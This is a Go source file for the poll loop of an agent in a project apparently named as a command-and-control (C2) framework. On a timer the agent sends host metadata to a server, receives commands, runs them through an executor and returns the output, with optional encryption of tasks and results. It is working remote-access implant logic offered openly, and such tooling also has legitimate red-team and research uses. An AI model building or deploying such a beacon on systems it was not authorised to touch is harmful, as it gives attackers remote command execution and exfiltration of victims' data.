package agent

import (
	"context"
	"fmt"
	"log/slog"
	"time"
	"unicode/utf8"

	"github.com/EternisAI/silo-c2/internal/api/http/dto"
	"github.com/EternisAI/silo-c2/internal/envelope"
)

const (
	DefaultInterval = 60 * time.Second
	// DefaultMaxOutputSize keeps an encrypted result under the backend's
	// default /results limit.
	DefaultMaxOutputSize = 8 << 20
)

type StateStore interface {
	AgentID() (string, error)
	SaveAgentID(agentID string) error
}

type Transport interface {
	Checkin(ctx context.Context, req dto.CheckinRequest) (*dto.CheckinResponse, error)
	SubmitResult(ctx context.Context, req dto.ResultRequest) error
}

type Executor interface {
	Execute(ctx context.Context, command string) string
}

type Config struct {
	Interval time.Duration
	// Envelope enables encrypted check-ins, tasks and results when non-nil.
	Envelope *envelope.Envelope
	// MaxOutputSize is the number of output bytes reported before truncation.
	MaxOutputSize int
}

// Outcome describes how a single iteration ended.
type Outcome string

const (
	OutcomeCheckinFailed Outcome = "checkin_failed"
	OutcomeNoTask        Outcome = "no_task"
	OutcomeTaskRejected  Outcome = "task_rejected"
	OutcomeTaskExecuted  Outcome = "task_executed"
	OutcomePanicked      Outcome = "panicked"
)

// Runner is the agent's poll loop. It is strictly sequential: one iteration
// completes, including task execution and result submission, before the next
// sleep begins.
type Runner struct {
	config    Config
	state     StateStore
	transport Transport
	executor  Executor
	hostInfo  HostInfoFunc
}

func NewRunner(config Config, state StateStore, transport Transport, executor Executor, hostInfo HostInfoFunc) *Runner {
	if config.Interval <= 0 {
		config.Interval = DefaultInterval
	}
	if config.MaxOutputSize <= 0 {
		config.MaxOutputSize = DefaultMaxOutputSize
	}
	if hostInfo == nil {
		hostInfo = SystemHostInfo
	}
	return &Runner{
		config:    config,
		state:     state,
		transport: transport,
		executor:  executor,
		hostInfo:  hostInfo,
	}
}

// Run polls until ctx is cancelled. Iteration failures are logged and never
// end the loop.
func (r *Runner) Run(ctx context.Context) error {
	slog.Info("Agent loop started", "interval", r.config.Interval, "encrypted", r.config.Envelope != nil)

	for {
		outcome := r.RunOnce(ctx)
		slog.Debug("Iteration finished", "outcome", outcome, "next_in", r.config.Interval)

		select {
		case <-ctx.Done():
			slog.Info("Agent loop stopped")
			return nil
		case <-time.After(r.config.Interval):
		}
	}
}

// RunOnce performs a single check-in / execute / report cycle.
func (r *Runner) RunOnce(ctx context.Context) (outcome Outcome) {
	defer func() {
		if rec := recover(); rec != nil {
			slog.Error("Agent iteration panicked", "panic", fmt.Sprint(rec))
			outcome = OutcomePanicked
		}
	}()

	agentID, err := r.state.AgentID()
	if err != nil {
		slog.Warn("Failed to load agent ID, checking in as new agent", "error", err)
		agentID = ""
	}

	req, err := r.buildCheckin(agentID)
	if err != nil {
		slog.Error("Failed to build check-in payload", "error", err)
		return OutcomeCheckinFailed
	}

	resp, err := r.transport.Checkin(ctx, req)
	if err != nil {
		slog.Error("Check-in failed", "error", err, "retry_in", r.config.Interval)
		return OutcomeCheckinFailed
	}

	if resp.AgentID != "" {
		if resp.AgentID != agentID {
			slog.Info("Agent ID assigned", "agent_id", resp.AgentID)
		}
		if err := r.state.SaveAgentID(resp.AgentID); err != nil {
			slog.Error("Failed to persist agent ID", "error", err, "agent_id", resp.AgentID)
		}
		agentID = resp.AgentID
	}

	if resp.Task == "" || resp.Task == dto.NoTask {
		return OutcomeNoTask
	}

	command, ok := r.openTask(resp.Task)
	if !ok {
		return OutcomeTaskRejected
	}

	slog.Info("Task received", "agent_id", agentID)
	output := truncateOutput(r.executor.Execute(ctx, command), r.config.MaxOutputSize)

	result, err := r.buildResult(agentID, output)
	if err != nil {
		slog.Error("Failed to build result payload", "error", err)
		return OutcomeTaskExecuted
	}

	if err := r.transport.SubmitResult(ctx, result); err != nil {
		slog.Error("Failed to send task result", "error", err, "agent_id", agentID)
	} else {
		slog.Info("Task executed and result sent", "agent_id", agentID)
	}
	return OutcomeTaskExecuted
}

func (r *Runner) buildCheckin(agentID string) (dto.CheckinRequest, error) {
	meta := r.hostInfo()
	req := dto.CheckinRequest{AgentID: agentID}

	if r.config.Envelope == nil {
		req.Hostname = meta.Hostname
		req.OSName = meta.OSName
		return req, nil
	}

	token, err := r.config.Envelope.Encrypt(meta)
	if err != nil {
		return req, fmt.Errorf("failed to encrypt host metadata: %w", err)
	}
	req.EncryptedData = token
	return req, nil
}

func (r *Runner) openTask(task string) (string, bool) {
	if r.config.Envelope == nil {
		return task, true
	}

	var payload dto.TaskPayload
	if err := r.config.Envelope.Decrypt(task, &payload); err != nil {
		slog.Error("Failed to decrypt task, ignoring it", "error", err)
		return "", false
	}
	if payload.Command == "" {
		slog.Warn("Decrypted task has no command, ignoring it")
		return "", false
	}
	return payload.Command, true
}

// truncateOutput cuts output to at most limit bytes on a rune boundary and
// appends a marker with the number of bytes dropped.
func truncateOutput(output string, limit int) string {
	if len(output) <= limit {
		return output
	}
	cut := limit
	for cut > 0 && !utf8.RuneStart(output[cut]) {
		cut--
	}
	slog.Warn("Task output truncated", "size", len(output), "limit", limit)
	return output[:cut] + fmt.Sprintf("\n...[truncated %d bytes]", len(output)-cut)
}

func (r *Runner) buildResult(agentID, output string) (dto.ResultRequest, error) {
	req := dto.ResultRequest{AgentID: agentID}

	if r.config.Envelope == nil {
		req.TaskResult = &output
		return req, nil
	}

	token, err := r.config.Envelope.Encrypt(dto.ResultPayload{Output: output})
	if err != nil {
		return req, fmt.Errorf("failed to encrypt result: %w", err)
	}
	req.EncryptedData = &token
	return req, nil
}
